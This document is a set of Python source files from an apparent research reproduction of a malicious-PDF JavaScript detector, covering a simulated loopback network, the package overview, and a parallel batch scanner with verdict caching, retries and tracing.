    def running(self) -> List[Process]:
        return [p for p in self.processes.values() if p.alive]
