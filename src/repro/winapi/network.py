"""Simulated network.

Connections are records, and loopback "TCP channels" deliver messages
in-process.  Two real channels ride on this: the hook-DLL → runtime
detector event stream (§III-E) and the SOAP messages from the context
monitoring code (§III-C); both are white-listed by the monitor, so the
network substrate must distinguish them from attacker traffic.
"""

from __future__ import annotations

from collections import deque
from dataclasses import dataclass
from typing import Callable, Deque, Dict, List, Optional, Tuple


@dataclass
class Connection:
    """One connection attempt (successful or not)."""

    pid: int
    host: str
    port: int
    kind: str = "connect"  # "connect" or "listen"
    allowed: bool = True


class LoopbackChannel:
    """An in-process reliable message pipe (our "TCP socket")."""

    def __init__(self, name: str) -> None:
        self.name = name
        self._queue: Deque[object] = deque()
        self._subscriber: Optional[Callable[[object], None]] = None

    def subscribe(self, handler: Callable[[object], None]) -> None:
        self._subscriber = handler
        while self._queue:
            handler(self._queue.popleft())

    def send(self, message: object) -> None:
        if self._subscriber is not None:
            self._subscriber(message)
        else:
            self._queue.append(message)

    def drain(self) -> List[object]:
        items = list(self._queue)
        self._queue.clear()
        return items


class Network:
    """Connection log plus a registry of loopback service channels."""

    LOOPBACK = "127.0.0.1"

    def __init__(self) -> None:
        self.connections: List[Connection] = []
        self._services: Dict[Tuple[str, int], LoopbackChannel] = {}
        self._rpc: Dict[Tuple[str, int], Callable[[object], object]] = {}

    # -- service registry -------------------------------------------------

    def register_service(self, host: str, port: int, name: str) -> LoopbackChannel:
        channel = LoopbackChannel(name)
        self._services[(host, port)] = channel
        return channel

    def service_at(self, host: str, port: int) -> Optional[LoopbackChannel]:
        return self._services.get((host, port))

    def register_rpc(self, host: str, port: int, handler: Callable[[object], object]) -> None:
        """Register a synchronous request/response endpoint (SOAP server)."""
        self._rpc[(host, port)] = handler

    def call_rpc(self, host: str, port: int, payload: object) -> object:
        handler = self._rpc.get((host, port))
        if handler is None:
            raise ConnectionRefusedError(f"nothing listening at {host}:{port}")
        return handler(payload)

    def has_rpc(self, host: str, port: int) -> bool:
        return (host, port) in self._rpc

    # -- syscall-level operations -------------------------------------------

    def connect(self, pid: int, host: str, port: int) -> Connection:
        connection = Connection(pid=pid, host=host, port=port, kind="connect")
        self.connections.append(connection)
        return connection

    def listen(self, pid: int, port: int) -> Connection:
        connection = Connection(pid=pid, host=self.LOOPBACK, port=port, kind="listen")
        self.connections.append(connection)
        return connection

    def connections_for(self, pid: int) -> List[Connection]:
        return [c for c in self.connections if c.pid == pid]
