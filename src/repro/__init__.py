"""Reproduction of *Detecting Malicious Javascript in PDF through Document
Instrumentation* (Liu, Wang, Stavrou — DSN 2014).

The package is organised as the paper's system plus every substrate it
depends on:

``repro.pdf``
    A from-scratch PDF object model, tokenizer, parser, filter suite,
    writer, encryption handler and high-level builder.
``repro.js``
    A from-scratch JavaScript (ES3-ish subset) interpreter with the
    Acrobat object model the paper's instrumentation relies on
    (``eval``, ``SOAP``, ``app.setTimeOut``, ``Doc.addScript`` …).
``repro.winapi``
    A simulated Windows substrate: processes with memory counters, a
    syscall table, IAT hooking with a trampoline DLL, filesystem,
    network sockets and a Sandboxie-like sandbox.
``repro.reader``
    A single-threaded simulated PDF reader with a version-gated exploit
    registry, heap-spray/NOP-sled control-flow-hijack model and trigger
    (``/OpenAction``, ``/AA``) dispatch.
``repro.core``
    The paper's contribution: static features, JavaScript-chain
    reconstruction, document instrumentation and de-instrumentation,
    the SOAP channel, the context-aware runtime monitor, the malscore
    detector (Eq. 1) and the confinement engine (Table III).
``repro.corpus``
    Seeded synthetic benign/malicious corpora standing in for the
    paper's Contagio + crawled datasets.
``repro.baselines``
    The comparison systems of Table IX (N-grams, PJScan, PDFRate,
    structural paths, MDScan, Wepawet-like, signature AV) built on a
    from-scratch ML toolkit.
``repro.attacks``
    The Section IV adversaries (mimicry, runtime patching, staged,
    delayed execution) used by the security analysis.

Quickstart::

    from repro import protect, open_protected
    from repro.corpus import malicious

    pdf_bytes = malicious.heap_spray_dropper(seed=7).to_bytes()
    protected = protect(pdf_bytes)
    report = open_protected(protected)
    assert report.verdict.malicious
"""

from typing import Any

_LAZY_EXPORTS = {
    "OpenReport": ("repro.core.pipeline", "OpenReport"),
    "ProtectedDocument": ("repro.core.pipeline", "ProtectedDocument"),
    "ProtectionPipeline": ("repro.core.pipeline", "ProtectionPipeline"),
    "open_protected": ("repro.core.pipeline", "open_protected"),
    "protect": ("repro.core.pipeline", "protect"),
    "DetectorConfig": ("repro.core.detector", "DetectorConfig"),
    "Verdict": ("repro.core.detector", "Verdict"),
}


def __getattr__(name: str) -> Any:
    """Lazily resolve the public API (PEP 562)."""
    try:
        module_name, attr = _LAZY_EXPORTS[name]
    except KeyError:
        raise AttributeError(f"module 'repro' has no attribute {name!r}") from None
    import importlib

    module = importlib.import_module(module_name)
    return getattr(module, attr)


__all__ = [
    "DetectorConfig",
    "OpenReport",
    "ProtectedDocument",
    "ProtectionPipeline",
    "Verdict",
    "open_protected",
    "protect",
]

__version__ = "1.0.0"
