"""Parallel corpus scanning over a worker pool.

The paper deploys the detector as a gateway filter: every inbound PDF
is instrumented before delivery.  A gateway sees *corpora*, not single
files, so this module fans documents out over ``concurrent.futures``
workers while keeping the per-document pipeline semantics exactly
sequential:

* every worker owns a **forked pipeline**
  (:meth:`~repro.core.pipeline.ProtectionPipeline.fork`) — pipelines
  share mutable state and are not re-entrant, but verdicts are
  seed-determined, so a fork produces the same verdict the sequential
  pipeline would (asserted by ``tests/property/test_batch_properties``);
* duplicate documents (same SHA-256) are scanned **once** and answered
  from the :class:`~repro.batch.cache.VerdictCache`;
* a document that hangs or crashes its worker is **isolated**: it gets
  retried with bounded backoff and, if it keeps failing, is reported as
  ``timeout``/``errored`` in the :class:`~repro.batch.report.BatchReport`
  while every other document completes normally.

Backends
--------
``thread``
    Cheap to start, shares memory; scans are pure-Python so the GIL
    serialises them — use for I/O-bound corpora, tests and stubs.  A
    timed-out scan cannot be killed, only abandoned (its thread keeps
    the pool slot until it finishes).
``process``
    Real CPU parallelism (the benchmark's >1.5x speedup comes from
    here).  Requires picklable work, which is why workers rebuild the
    pipeline from :class:`~repro.core.pipeline.PipelineSettings`.
"""

from __future__ import annotations

import concurrent.futures as cf
import threading
import time
from dataclasses import dataclass, replace
from typing import (
    Any,
    Callable,
    Dict,
    Iterable,
    List,
    Optional,
    Sequence,
    Tuple,
    Union,
)

from repro import limits as limits_mod
from repro import obs as obs_mod
from repro.batch.cache import CacheBackend, VerdictCache, content_digest
from repro.batch.report import (
    STATUS_ERRORED,
    STATUS_OK,
    STATUS_TIMEOUT,
    BatchItemResult,
    BatchReport,
    VerdictSummary,
)
from repro.core.pipeline import PipelineSettings, ProtectionPipeline
from repro.limits import ScanLimits, cap_deadline

#: Default worker backend — measured, not guessed.  ``benchmarks/
#: bench_batch_scan.py`` re-times thread vs process on unique and
#: duplicated corpora each run and records the winners in
#: BENCH_batch.json ("measured" block).  Post PR 7/9 per-scan speedups
#: the thread pool still wins both workloads on small-core hosts (no
#: fork/pickle tax, shared verdict cache); flip this constant when a
#: measurement says otherwise.
DEFAULT_BACKEND = "thread"

#: (name, data) pairs are the universal input shape.
BatchItem = Tuple[str, bytes]

#: Builds a fresh, worker-private pipeline-like object exposing
#: ``scan(data, name) -> OpenReport``.
PipelineFactory = Callable[[], Any]

_WAIT_SLACK = 0.005  # seconds added to wait() so deadlines have passed


def _settings_fingerprint(settings: PipelineSettings) -> str:
    """Cache fingerprint: verdicts only transfer between identical setups.

    Incorporates the static-analysis rule-set version and the triage
    flag: editing a lint rule (or toggling triage) changes what the
    scanner may skip, so cached verdicts from other configurations are
    discarded.  The *resolved* JS engine is included too — the engines
    are proven verdict-equivalent, but keying the cache on the engine
    keeps a differential repro honest (a cache hit must never mask an
    engine divergence).
    """
    from repro.js import resolve_js_engine
    from repro.jsast.rules import ruleset_version
    from repro.jsast.rules_absint import ABSINT_VERSION

    return (
        f"v{settings.reader_version}|seed{settings.seed}"
        f"|{settings.hook_mode.value}|{settings.config!r}"
        f"|jsast:{ruleset_version()}|triage:{int(settings.triage)}"
        f"|absint:{ABSINT_VERSION}"
        f"|limits:{settings.limits.describe()}"
        f"|profile:{int(settings.profile)}"
        f"|js:{resolve_js_engine(settings.js_engine)}"
    )


# -- worker functions --------------------------------------------------------

def _pipeline_tracer(pipeline: Any) -> Optional[Any]:
    """The pipeline's tracer, or None for stub pipelines without obs."""
    obs = getattr(pipeline, "obs", None)
    return getattr(obs, "tracer", None)


def _run_scan(
    pipeline: Any,
    name: str,
    data: bytes,
    delay: float,
    parent_span_id: Optional[int] = None,
) -> Tuple[VerdictSummary, float]:
    if delay > 0:
        time.sleep(delay)
    tracer = _pipeline_tracer(pipeline)
    start = time.perf_counter()
    if tracer is not None:
        # Re-parent this worker thread's spans to the submitting
        # ``batch.run`` span so the trace tree stays connected across
        # the pool boundary.
        with tracer.attach(parent_span_id):
            report = pipeline.scan(data, name)
    else:
        report = pipeline.scan(data, name)
    return VerdictSummary.from_report(report), time.perf_counter() - start


def _run_scan_report(
    pipeline: Any,
    name: str,
    data: bytes,
    limits: Optional[ScanLimits],
    deadline_at: Optional[float],
    parent_span_id: Optional[int] = None,
) -> Tuple[VerdictSummary, Dict[str, Any], float, bool, Optional[List[Dict[str, Any]]]]:
    """Service-mode scan: one request, full report payload back.

    ``limits`` is the request's effective budget (already capped by the
    scanner's per-attempt timeout); ``deadline_at`` is a
    ``time.monotonic`` instant by which the *whole request* — queue
    wait included — must finish, so the remaining time further caps the
    in-scan deadline.  A request whose deadline passed while it queued
    aborts on the first budget check and comes back as a structured
    ``deadline`` limit report instead of burning a worker slot.

    Returns ``(summary, report_dict, seconds, cacheable, spans)``: the
    verdict core, the JSON-ready ``OpenReport.to_dict()`` payload (kept
    as a plain dict so the process backend can pickle it), whether the
    verdict may be cached under the scanner's settings fingerprint, and
    the scan's span tree as plain dicts (collected even with a disabled
    sink — the service's slow-scan buffer needs full span trees without
    paying for always-on emission).  ``cacheable`` is False when
    ``deadline_at`` tightened the budget *and* the scan aborted on a
    budget: that abort may be an artifact of this request's remaining
    queue time, not of the configured limits the cache fingerprint
    describes — caching it would serve a possibly-wrong verdict to
    every later request for the digest.
    """
    if limits is None:
        limits = ScanLimits()
    effective = limits
    if deadline_at is not None:
        remaining = max(0.0, deadline_at - time.monotonic())
        effective = cap_deadline(limits, remaining)
    tightened = effective.deadline_seconds != limits.deadline_seconds
    tracer = _pipeline_tracer(pipeline)
    spans: Optional[List[Dict[str, Any]]] = None
    start = time.perf_counter()
    # The outer activation wins over the pipeline's own (re-entrant
    # scope), so per-request overrides govern the whole scan; blown
    # budgets are still converted to limit reports by ``pipeline.scan``.
    with limits_mod.activate(effective):
        if tracer is not None:
            with tracer.attach(parent_span_id), tracer.collect() as spans:
                report = pipeline.scan(data, name)
        else:
            report = pipeline.scan(data, name)
    seconds = time.perf_counter() - start
    summary = VerdictSummary.from_report(report)
    # A clean verdict under a tighter deadline equals the full-budget
    # verdict (budgets only abort scans, never change detection logic).
    cacheable = not tightened or (
        summary.limit_kind is None and not summary.errored
    )
    return summary, report.to_dict(), seconds, cacheable, spans


class _ThreadWorker:
    """Thread-pool task target: one lazily-built pipeline per thread."""

    def __init__(self, factory: PipelineFactory) -> None:
        self._factory = factory
        self._local = threading.local()

    def _pipeline(self) -> Any:
        pipeline = getattr(self._local, "pipeline", None)
        if pipeline is None:
            pipeline = self._factory()
            self._local.pipeline = pipeline
        return pipeline

    def __call__(
        self,
        name: str,
        data: bytes,
        delay: float,
        parent_span_id: Optional[int] = None,
    ) -> Tuple[VerdictSummary, float]:
        return _run_scan(self._pipeline(), name, data, delay, parent_span_id)


class _ServiceThreadWorker(_ThreadWorker):
    """Thread-pool target for per-request (service-mode) submissions."""

    def __call__(  # type: ignore[override]
        self,
        name: str,
        data: bytes,
        limits: Optional[ScanLimits],
        deadline_at: Optional[float],
        parent_span_id: Optional[int] = None,
    ) -> Tuple[VerdictSummary, Dict[str, Any], float, bool, Optional[List[Dict[str, Any]]]]:
        return _run_scan_report(
            self._pipeline(), name, data, limits, deadline_at, parent_span_id
        )


#: Per-process pipeline for the ``process`` backend (set by the pool
#: initializer, used by every task that lands in that process).
_process_pipeline: Optional[ProtectionPipeline] = None


def _process_initializer(settings: PipelineSettings) -> None:
    global _process_pipeline
    _process_pipeline = settings.build()


def _process_worker(
    name: str,
    data: bytes,
    delay: float,
    parent_span_id: Optional[int] = None,
) -> Tuple[VerdictSummary, float]:
    # ``parent_span_id`` is accepted for signature parity but ignored:
    # span ids are per-process counters, so a parent id from the
    # orchestrator process would alias unrelated spans here.
    assert _process_pipeline is not None, "pool initializer did not run"
    return _run_scan(_process_pipeline, name, data, delay)


def _service_process_worker(
    name: str,
    data: bytes,
    limits: Optional[ScanLimits],
    deadline_at: Optional[float],
    parent_span_id: Optional[int] = None,
) -> Tuple[VerdictSummary, Dict[str, Any], float, bool, Optional[List[Dict[str, Any]]]]:
    assert _process_pipeline is not None, "pool initializer did not run"
    return _run_scan_report(_process_pipeline, name, data, limits, deadline_at)


@dataclass(frozen=True)
class ScanOutcome:
    """What one service-mode scan produced.

    ``report`` is the JSON-ready ``OpenReport.to_dict()`` payload for
    scans that actually ran; cache answers carry only the ``summary``
    (the cache stores verdict cores, not full reports).
    """

    summary: VerdictSummary
    report: Optional[Dict[str, Any]]
    seconds: float
    cached: bool = False
    #: The scan's span tree (plain dicts), collected in the worker for
    #: slow-scan exemplar capture; None for cache hits and stub workers.
    spans: Optional[List[Dict[str, Any]]] = None


class ScanHandle:
    """Handle for one document submitted via :meth:`BatchScanner.submit_one`.

    Resolves either immediately (verdict-cache hit) or when the worker
    pool finishes the scan.  :meth:`result` re-raises worker exceptions
    and ``concurrent.futures.TimeoutError`` on wait expiry — callers
    that must never raise (the scan service) wrap it.
    """

    def __init__(
        self,
        name: str,
        digest: str,
        future: Optional["cf.Future[Any]"] = None,
        outcome: Optional[ScanOutcome] = None,
    ) -> None:
        if (future is None) == (outcome is None):
            raise ValueError("exactly one of future/outcome required")
        self.name = name
        self.digest = digest
        self._future = future
        self._outcome = outcome

    @property
    def cached(self) -> bool:
        """True when the handle was answered from the verdict cache."""
        return self._outcome is not None and self._outcome.cached

    def done(self) -> bool:
        return self._outcome is not None or (
            self._future is not None and self._future.done()
        )

    def add_done_callback(self, fn: Callable[[], None]) -> None:
        """Run ``fn`` (no arguments) once the scan resolves — fires
        immediately for cache hits.  The service uses this to notice
        when an abandoned worker finally returns its pool slot."""
        if self._future is not None:
            self._future.add_done_callback(lambda _future: fn())
        else:
            fn()

    def result(self, timeout: Optional[float] = None) -> ScanOutcome:
        if self._outcome is None:
            assert self._future is not None
            summary, report, seconds, _cacheable, spans = self._future.result(
                timeout
            )
            self._outcome = ScanOutcome(summary, report, seconds, spans=spans)
        return self._outcome


# -- orchestration -----------------------------------------------------------

@dataclass
class _Task:
    """One scheduled scan for one unique document."""

    key: Any  # digest (cache on) or item index (cache off)
    digest: str
    name: str
    data: bytes
    attempt: int = 1
    delay: float = 0.0
    submitted_at: float = 0.0

    def deadline(self, timeout: Optional[float]) -> Optional[float]:
        if timeout is None:
            return None
        return self.submitted_at + self.delay + timeout


@dataclass
class _Done:
    status: str
    summary: Optional[VerdictSummary] = None
    attempts: int = 0
    seconds: float = 0.0
    error: Optional[str] = None


class BatchScanner:
    """Fan a corpus out over a worker pool and aggregate the verdicts.

    Parameters
    ----------
    jobs:
        Worker count (default 4).
    backend:
        ``"thread"`` or ``"process"`` (see module docstring).
    timeout:
        Per-document wall-clock seconds *per attempt*; ``None`` waits
        forever.  Counted from (re)submission plus any backoff delay.
    retries:
        Extra attempts after a timeout or worker exception.
    backoff / max_backoff:
        Retry n waits ``min(backoff * 2**(n-1), max_backoff)`` seconds
        before scanning (slept in the worker so the orchestrator never
        blocks).
    settings:
        Pipeline configuration for default workers (picklable, so it
        also feeds the process backend).
    pipeline_factory:
        Overrides ``settings``: a zero-arg callable returning an object
        with ``scan(data, name)``.  Thread backend only (factories are
        not shipped across processes) — this is the fault-injection
        hook the tests use.
    cache:
        A :class:`VerdictCache` to share/persist, ``None`` to build a
        private in-memory one, or ``False`` to disable caching *and*
        deduplication entirely.
    obs:
        Observability bundle.  Thread-backend workers share it: their
        pipeline spans flow to the same sink, parented to the enclosing
        ``batch.run`` / ``serve.request`` span (the tracer's span stack
        is thread-local).  Process workers emit to their own process's
        default obs instead — spans cannot cross the pickle boundary
        live, though service-mode scans ship them back as dicts.
    """

    def __init__(
        self,
        jobs: int = 4,
        backend: str = DEFAULT_BACKEND,
        timeout: Optional[float] = None,
        retries: int = 1,
        backoff: float = 0.05,
        max_backoff: float = 1.0,
        settings: Optional[PipelineSettings] = None,
        pipeline_factory: Optional[PipelineFactory] = None,
        cache: Union[CacheBackend, None, bool] = None,
        obs: Optional[obs_mod.Observability] = None,
    ) -> None:
        if jobs < 1:
            raise ValueError("jobs must be >= 1")
        if backend not in ("thread", "process"):
            raise ValueError(f"unknown backend {backend!r}")
        if backend == "process" and pipeline_factory is not None:
            raise ValueError("pipeline_factory requires the thread backend")
        if timeout is not None and timeout <= 0:
            raise ValueError("timeout must be positive")
        self.jobs = jobs
        self.backend = backend
        self.timeout = timeout
        self.retries = max(0, retries)
        self.backoff = backoff
        self.max_backoff = max_backoff
        self.settings = settings if settings is not None else PipelineSettings()
        if timeout is not None:
            # A thread worker that blows its per-attempt timeout cannot
            # be killed — only abandoned, still burning its pool slot.
            # Cap the in-scan parse deadline to the timeout so a hung
            # parse aborts *itself* instead of squatting the pool.
            self.settings = replace(
                self.settings,
                limits=cap_deadline(self.settings.limits, timeout),
            )
        self.pipeline_factory = pipeline_factory
        self.obs = obs if obs is not None else obs_mod.get_default()
        if cache is False:
            self.cache: Optional[CacheBackend] = None
        elif cache is None or cache is True:
            self.cache = VerdictCache(fingerprint=_settings_fingerprint(self.settings))
        else:
            self.cache = cache
        #: Persistent executor for service-mode submissions (see
        #: :meth:`start`); batch runs keep building their own.
        self._service_executor: Optional[cf.Executor] = None
        self._service_worker: Optional[Callable[..., Any]] = None
        self._service_lock = threading.Lock()

    # -- input conveniences ----------------------------------------------

    def scan_paths(self, paths: Sequence[Any]) -> BatchReport:
        """Scan files from disk; unreadable files become errored items."""
        items: List[BatchItem] = []
        unreadable: List[Tuple[str, str]] = []
        for path in paths:
            try:
                items.append((str(path), open(path, "rb").read()))
            except OSError as error:
                unreadable.append((str(path), str(error)))
        report = self.scan_items(items)
        for name, error in unreadable:
            report.items.append(
                BatchItemResult(
                    name=name, sha256="", status=STATUS_ERRORED, error=error
                )
            )
        return report

    def scan_dir(self, root: Any) -> BatchReport:
        """Scan every ``*.pdf`` under ``root`` (recursively, sorted)."""
        from repro.corpus.files import iter_pdf_paths

        return self.scan_paths(list(iter_pdf_paths(root)))

    # -- service mode ------------------------------------------------------

    def start(self) -> "BatchScanner":
        """Bring up the persistent worker pool for per-request scans.

        Batch runs (:meth:`scan_items`) build and tear down their own
        executor; a long-running service instead submits one document
        at a time against a pool that outlives individual requests.
        Idempotent and thread-safe; pair with :meth:`shutdown`.
        """
        with self._service_lock:
            if self._service_executor is None:
                self._service_executor = self._make_executor()
                if self.backend == "process":
                    self._service_worker = _service_process_worker
                else:
                    factory = self.pipeline_factory
                    if factory is None:
                        settings = self.settings
                        shared_obs = self.obs
                        # Worker pipelines share the scanner's obs: the
                        # tracer stack is thread-local and the sink is
                        # lock-protected, so worker spans interleave
                        # safely and stay parented to the submitter.
                        factory = lambda: settings.build(obs=shared_obs)  # noqa: E731
                    self._service_worker = _ServiceThreadWorker(factory)
        return self

    @property
    def started(self) -> bool:
        return self._service_executor is not None

    def effective_limits(self, limits: Optional[ScanLimits] = None) -> ScanLimits:
        """The budget one request actually runs under.

        Per-request overrides are re-derived against the scanner's
        per-attempt ``timeout`` *at submission time* — construction-time
        capping alone would let a request overriding ``--limits`` with a
        huge deadline outlive its admission deadline and squat a worker
        slot (the ISSUE-5 regression).
        """
        base = limits if limits is not None else self.settings.limits
        return cap_deadline(base, self.timeout)

    def submit_one(
        self,
        name: str,
        data: bytes,
        limits: Optional[ScanLimits] = None,
        deadline_at: Optional[float] = None,
        use_cache: bool = True,
    ) -> ScanHandle:
        """Submit one document to the persistent pool (service mode).

        ``limits`` overrides the pipeline budgets for this request only
        (its deadline still re-capped by the scanner timeout);
        ``deadline_at`` is a ``time.monotonic`` instant bounding the
        whole request — remaining time at scan start caps the in-scan
        deadline, so queue wait counts against the request.  Cache hits
        resolve immediately; custom-limits requests bypass the cache
        both ways (a verdict produced under tighter budgets must not be
        served to default-budget requests, and vice versa).  For the
        same reason a scan whose budget was tightened by ``deadline_at``
        and that aborted on a limit is never written to the cache.
        """
        self.start()
        digest = content_digest(data)
        custom = limits is not None
        cache = self.cache if (use_cache and not custom) else None
        if cache is not None:
            hit = cache.get(digest)
            self._count_cache(hit=hit is not None)
            if hit is not None:
                return ScanHandle(
                    name, digest,
                    outcome=ScanOutcome(hit, None, 0.0, cached=True),
                )
        assert self._service_executor is not None and self._service_worker is not None
        # Capture the submitting thread's span context (the enclosing
        # serve.request span) so the worker's spans parent to it.
        # Process workers get None: span ids are per-process counters.
        parent_span_id = (
            self.obs.tracer.current_span_id if self.backend == "thread" else None
        )
        future = self._service_executor.submit(
            self._service_worker, name, data,
            self.effective_limits(limits), deadline_at, parent_span_id,
        )
        if cache is not None:
            def _store(done: "cf.Future[Any]") -> None:
                if done.cancelled() or done.exception() is not None:
                    return
                summary, _report, _seconds, cacheable, _spans = done.result()
                # Verdicts produced under a budget tightened by the
                # request deadline (queue wait shrank the in-scan
                # budget) that aborted on a limit are artifacts of this
                # request's timing, not of the configured limits the
                # fingerprint describes — never cache those.
                if cacheable:
                    cache.put(digest, summary)

            future.add_done_callback(_store)
        return ScanHandle(name, digest, future=future)

    def scan_one(
        self,
        name: str,
        data: bytes,
        limits: Optional[ScanLimits] = None,
        deadline_at: Optional[float] = None,
        wait_timeout: Optional[float] = None,
    ) -> ScanOutcome:
        """Blocking convenience wrapper around :meth:`submit_one`."""
        return self.submit_one(
            name, data, limits=limits, deadline_at=deadline_at
        ).result(wait_timeout)

    def shutdown(self, wait: bool = True) -> None:
        """Tear down the persistent pool (no-op when never started)."""
        with self._service_lock:
            executor, self._service_executor = self._service_executor, None
            self._service_worker = None
        if executor is not None:
            executor.shutdown(wait=wait)
        if self.cache is not None:
            self.cache.flush()

    # -- the batch run ----------------------------------------------------

    def scan_items(self, items: Iterable[BatchItem]) -> BatchReport:
        materialized = [(name, data) for name, data in items]
        report = BatchReport(
            jobs=self.jobs,
            backend=self.backend,
            timeout=self.timeout,
            retries=self.retries,
        )
        wall_start = time.perf_counter()
        with self.obs.tracer.span(
            "batch.run", items=len(materialized), jobs=self.jobs,
            backend=self.backend,
        ) as run_span:
            results = self._scan_materialized(materialized, report)
            report.items.extend(results)
            report.wall_seconds = time.perf_counter() - wall_start
            run_span.set_tag("scans_executed", report.scans_executed)
            run_span.set_tag("cache_hits", report.cache_hits)
        if self.obs.enabled:
            self.obs.metrics.inc("batch_runs")
            self.obs.metrics.observe("batch_wall_seconds", report.wall_seconds)
        if self.cache is not None:
            self.cache.flush()
        return report

    def _scan_materialized(
        self, materialized: List[BatchItem], report: BatchReport
    ) -> List[BatchItemResult]:
        results: List[Optional[BatchItemResult]] = [None] * len(materialized)
        tasks: Dict[Any, _Task] = {}
        members: Dict[Any, List[int]] = {}
        resolved: Dict[str, VerdictSummary] = {}  # cache hits this run

        for index, (name, data) in enumerate(materialized):
            digest = content_digest(data)
            if self.cache is None:
                # Cache (and dedup) off: every item is its own scan.
                tasks[index] = _Task(key=index, digest=digest, name=name, data=data)
                members[index] = [index]
                continue
            if digest in tasks:
                # In-run duplicate: ride on the representative's scan.
                members[digest].append(index)
                report.cache_hits += 1
                self._count_cache(hit=True)
                continue
            hit = resolved.get(digest)
            if hit is None:
                hit = self.cache.get(digest)
                if hit is not None:
                    resolved[digest] = hit
                    report.cache_hits += 1
                    self._count_cache(hit=True)
            else:
                report.cache_hits += 1
                self._count_cache(hit=True)
            if hit is not None:
                results[index] = BatchItemResult(
                    name=name, sha256=digest, status=STATUS_OK,
                    verdict=hit, cached=True,
                )
                continue
            report.cache_misses += 1
            self._count_cache(hit=False)
            tasks[digest] = _Task(key=digest, digest=digest, name=name, data=data)
            members[digest] = [index]

        done = self._execute(tasks, report)

        for key, outcome in done.items():
            task = tasks[key]
            for position, index in enumerate(members[key]):
                name = materialized[index][0]
                is_representative = position == 0
                results[index] = BatchItemResult(
                    name=name,
                    sha256=task.digest,
                    status=outcome.status,
                    verdict=outcome.summary,
                    cached=not is_representative,
                    attempts=outcome.attempts if is_representative else 0,
                    seconds=outcome.seconds if is_representative else 0.0,
                    error=outcome.error,
                )
            if (
                outcome.status == STATUS_OK
                and outcome.summary is not None
                and self.cache is not None
            ):
                self.cache.put(task.digest, outcome.summary)
            self._record_item(task.name, outcome)

        report.scans_executed = sum(d.attempts for d in done.values())
        report.timeouts = sum(
            1 for d in done.values() if d.status == STATUS_TIMEOUT
        )
        assert all(result is not None for result in results)
        return [result for result in results if result is not None]

    # -- executor loop -----------------------------------------------------

    def _make_executor(self) -> cf.Executor:
        if self.backend == "process":
            return cf.ProcessPoolExecutor(
                max_workers=self.jobs,
                initializer=_process_initializer,
                initargs=(self.settings,),
            )
        return cf.ThreadPoolExecutor(
            max_workers=self.jobs, thread_name_prefix="repro-batch"
        )

    def _worker_callable(self) -> Callable[..., Tuple[VerdictSummary, float]]:
        if self.backend == "process":
            return _process_worker
        factory = self.pipeline_factory
        if factory is None:
            settings = self.settings
            shared_obs = self.obs
            factory = lambda: settings.build(obs=shared_obs)  # noqa: E731
        return _ThreadWorker(factory)

    def _execute(self, tasks: Dict[Any, _Task], report: BatchReport) -> Dict[Any, _Done]:
        done_out: Dict[Any, _Done] = {}
        if not tasks:
            return done_out
        worker = self._worker_callable()
        executor = self._make_executor()
        pending: Dict[cf.Future, _Task] = {}

        # The orchestrator thread holds the ``batch.run`` span while
        # submitting; capture it so thread workers re-parent to it.
        parent_span_id = (
            self.obs.tracer.current_span_id if self.backend == "thread" else None
        )

        def submit(task: _Task) -> None:
            nonlocal executor
            task.submitted_at = time.monotonic()
            try:
                future = executor.submit(
                    worker, task.name, task.data, task.delay, parent_span_id
                )
            except (cf.BrokenExecutor, RuntimeError):
                # A crashed worker can take the whole process pool down;
                # rebuild it once so the rest of the corpus still scans.
                executor.shutdown(wait=False)
                executor = self._make_executor()
                future = executor.submit(
                    worker, task.name, task.data, task.delay, parent_span_id
                )
            pending[future] = task

        def retry_or_fail(task: _Task, status: str, error: Optional[str]) -> None:
            if task.attempt <= self.retries:
                report.retries_used += 1
                if self.obs.enabled:
                    self.obs.metrics.inc("batch_retries", reason=status)
                task.attempt += 1
                task.delay = min(
                    self.backoff * (2 ** (task.attempt - 2)), self.max_backoff
                )
                submit(task)
            else:
                done_out[task.key] = _Done(
                    status=status,
                    attempts=task.attempt,
                    seconds=self.timeout or 0.0,
                    error=error,
                )

        try:
            for task in tasks.values():
                submit(task)
            while pending:
                wait_for: Optional[float] = None
                if self.timeout is not None:
                    now = time.monotonic()
                    next_deadline = min(
                        task.deadline(self.timeout) for task in pending.values()
                    )
                    wait_for = max(0.0, next_deadline - now) + _WAIT_SLACK
                finished, _ = cf.wait(
                    set(pending), timeout=wait_for,
                    return_when=cf.FIRST_COMPLETED,
                )
                for future in finished:
                    task = pending.pop(future)
                    error = future.exception()
                    if error is None:
                        summary, seconds = future.result()
                        done_out[task.key] = _Done(
                            status=STATUS_OK, summary=summary,
                            attempts=task.attempt, seconds=seconds,
                        )
                    else:
                        retry_or_fail(
                            task, STATUS_ERRORED,
                            f"{type(error).__name__}: {error}",
                        )
                if self.timeout is not None:
                    now = time.monotonic()
                    for future, task in list(pending.items()):
                        deadline = task.deadline(self.timeout)
                        if deadline is not None and now >= deadline:
                            # Cannot kill a running worker; abandon the
                            # future (its thread/process finishes on its
                            # own) and retry on a fresh slot.
                            future.cancel()
                            pending.pop(future)
                            if self.obs.enabled:
                                self.obs.metrics.inc("batch_timeouts")
                            retry_or_fail(
                                task, STATUS_TIMEOUT,
                                f"no result within {self.timeout:g}s "
                                f"(attempt {task.attempt})",
                            )
        finally:
            executor.shutdown(wait=False)
        return done_out

    # -- obs helpers -------------------------------------------------------

    def _count_cache(self, hit: bool) -> None:
        if self.obs.enabled:
            self.obs.metrics.inc(
                "batch_cache_lookups", result="hit" if hit else "miss"
            )

    def _record_item(self, name: str, outcome: _Done) -> None:
        if not self.obs.enabled:
            return
        with self.obs.tracer.span("batch.document", document=name) as span:
            span.set_tag("status", outcome.status)
            span.set_tag("attempts", outcome.attempts)
            span.set_tag("scan_seconds", outcome.seconds)
            if outcome.summary is not None:
                span.set_tag("malicious", outcome.summary.malicious)
        self.obs.metrics.inc("batch_docs", status=outcome.status)
        if outcome.status == STATUS_OK:
            self.obs.metrics.observe("batch_scan_seconds", outcome.seconds)


def scan_corpus(
    items: Iterable[BatchItem],
    jobs: int = 4,
    **kwargs: Any,
) -> BatchReport:
    """One-call convenience: ``scan_corpus([(name, bytes), ...])``."""
    return BatchScanner(jobs=jobs, **kwargs).scan_items(items)
