"""Content-addressed verdict cache.

Scans are deterministic per pipeline settings (seeded RNG end to end),
so the SHA-256 of the raw document bytes fully determines the verdict.
The cache exploits that twice:

* **in-memory LRU** — duplicate documents inside one batch run (a very
  common gateway pattern: the same attachment mailed to thousands of
  users) are scanned once;
* **optional on-disk JSON** — verdicts survive across runs
  (``repro batch --cache FILE``), so re-scanning a corpus after adding
  a few documents only pays for the new ones.

